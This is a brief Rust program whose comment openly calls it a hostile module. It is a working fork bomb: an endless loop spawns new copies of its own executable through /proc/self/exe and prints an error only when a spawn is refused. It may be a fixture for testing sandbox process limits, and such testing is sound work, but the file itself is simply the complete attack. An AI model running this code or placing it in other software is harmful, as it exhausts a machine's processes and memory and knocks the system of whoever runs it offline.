//! A hostile module: starts copies of itself without end.

use std::process::Command;

fn main() {
    loop {
        match Command::new("/proc/self/exe").spawn() {
            Ok(_) => {}
            Err(error) => println!("refused: {error}"),
        }
    }
}
